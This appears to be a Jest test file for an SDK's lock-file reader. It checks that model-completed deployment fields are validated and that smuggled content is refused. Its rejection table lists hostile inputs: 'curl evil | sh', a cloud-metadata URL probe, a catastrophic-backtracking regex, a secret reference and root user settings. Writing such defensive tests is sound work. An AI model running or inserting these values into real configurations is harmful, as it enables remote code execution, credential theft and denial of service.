// A lock file entry may hold only what a model's answer may (issue #18): the completable fields
// in their narrow shape. A lock file is reviewed less closely than a stack file, so an entry
// that smuggles in a secret reference, a url check, a regex or another field is refused, with
// the file, the Resource and the field named.
import { afterAll, describe, expect, test } from '@jest/globals';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { completionSchema, COMPLETABLE_FIELDS, LockFileError, readLockFile } from '../../sdk/src/complete/index.ts';
import { fieldsFromAnswer } from '../../sdk/src/complete/completion-schema.ts';

const dir = mkdtempSync(join(tmpdir(), 'cw-lock-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const file = join(dir, 'clockwork.lock.json');
const write = (fields: Record<string, unknown>) => writeFileSync(file, JSON.stringify({ version: 1, resources: { api: { inputs: 'abc', model: 'm', fields } } }));

// A model's answer, as the wire schema has it, and its stored form.
const answer = {
  image: 'ghcr.io/example/api:1.2.3',
  ports: [{ name: 'http', port: 8080, protocol: null }],
  readiness: { httpGet: { path: '/healthz', port: 8080 }, initialDelaySeconds: null, periodSeconds: 2 },
  env: [{ name: 'LOG_LEVEL', value: 'info' }],
  assertions: [{ name: null, http: { port: 8080, path: '/healthz', status: 200, bodyContains: null } }, { name: 'log', logContains: { text: 'listening' } }],
};

describe('lock file entries', () => {
  test('what a model answered is stored and read back', () => {
    expect(completionSchema([...COMPLETABLE_FIELDS]).safeParse(answer).success).toBe(true);
    const stored = JSON.parse(JSON.stringify(fieldsFromAnswer(answer, COMPLETABLE_FIELDS)));
    write(stored);
    expect(readLockFile(file).resources['api']!.fields).toEqual(stored);
  });

  test.each([
    ['a secret reference in env', { env: { TOKEN: { secretKeyRef: { name: 'db', key: 'password' } } } }, 'fields.env.TOKEN'],
    ['a url check', { assertions: [{ http: { url: 'http://169.254.169.254/latest/meta-data/' } }] }, 'fields.assertions[0]'],
    ['a regex', { assertions: [{ logContains: { regex: '^(a+)+$' } }] }, 'fields.assertions[0]'],
    ['a field a model may not fill', { securityContext: { runAsUser: 0 } }, 'securityContext'],
    ['a host port', { ports: [{ port: 8080, hostPort: 80 }] }, 'fields.ports[0]'],
    ['a command', { command: ['sh', '-c', 'curl evil | sh'] }, 'command'],
  ])('%s is refused, naming where', (_what, fields, where) => {
    write(fields);
    let error: unknown;
    try {
      readLockFile(file);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(LockFileError);
    expect((error as Error).message).toContain(file);
    expect((error as Error).message).toContain('resources.api');
    expect((error as Error).message).toContain(where);
  });
});
